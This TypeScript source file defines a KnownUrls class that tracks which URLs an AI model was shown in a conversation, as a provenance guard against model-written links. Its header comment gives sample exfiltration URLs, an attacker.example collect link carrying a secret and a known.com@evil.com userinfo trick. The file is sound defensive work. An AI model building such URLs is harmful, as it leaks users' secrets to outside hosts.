/**
 * URLs the model has actually been shown in this conversation: search results, the addresses and links
 * of pages it read, attached pages and files, the user's own words. Only these may be opened without
 * asking the user (open-provenance.ts), because a URL the model writes itself can carry anything it
 * read — `https://attacker.example/collect?d=<secret>` — out to any host.
 *
 * Comparison is exact on the WHATWG parser's href, which already folds what is the same address
 * (host case, IDN to punycode, default ports, `.`/`..` segments, `\` for `/`) and keeps everything a
 * server could tell apart (path, query, percent-encoding, userinfo, a trailing slash). So a URL built
 * from a known one — another query, another path, `https://known.com@evil.com` — is new.
 *
 * The fragment is never sent to a server, but the page's own script can read it when the page is
 * rendered in a tab: a URL with a fragment must match exactly; without one it matches any known URL
 * that differs only by its fragment (leaving a fragment out carries nothing).
 */
export class KnownUrls {
  private readonly exact = new Set<string>();
  private readonly withoutFragment = new Set<string>();

  add(url: string): void {
    const u = parse(url);
    if (!u) return;
    this.exact.add(u.href);
    u.hash = '';
    this.withoutFragment.add(u.href);
  }

  addAll(urls: Iterable<string>): void {
    for (const url of urls) this.add(url);
  }

  /** URLs written out in the user's own text. */
  addFromText(text: string): void {
    for (const m of text.matchAll(/\bhttps?:\/\/[^\s<>"'`【】)\]]+/gi)) this.add(m[0].replace(/[.,;:!?]+$/, ''));
  }

  has(url: string): boolean {
    const u = parse(url);
    if (!u) return false;
    if (this.exact.has(u.href)) return true;
    return u.hash === '' && this.withoutFragment.has(u.href);
  }

  /** Every URL added, as the parser spells it: what a later message of the conversation starts from. */
  list(): string[] {
    return [...this.exact];
  }
}

function parse(url: string): URL | undefined {
  try {
    const u = new URL(url);
    return u.protocol === 'http:' || u.protocol === 'https:' ? u : undefined;
  } catch {
    return undefined;
  }
}
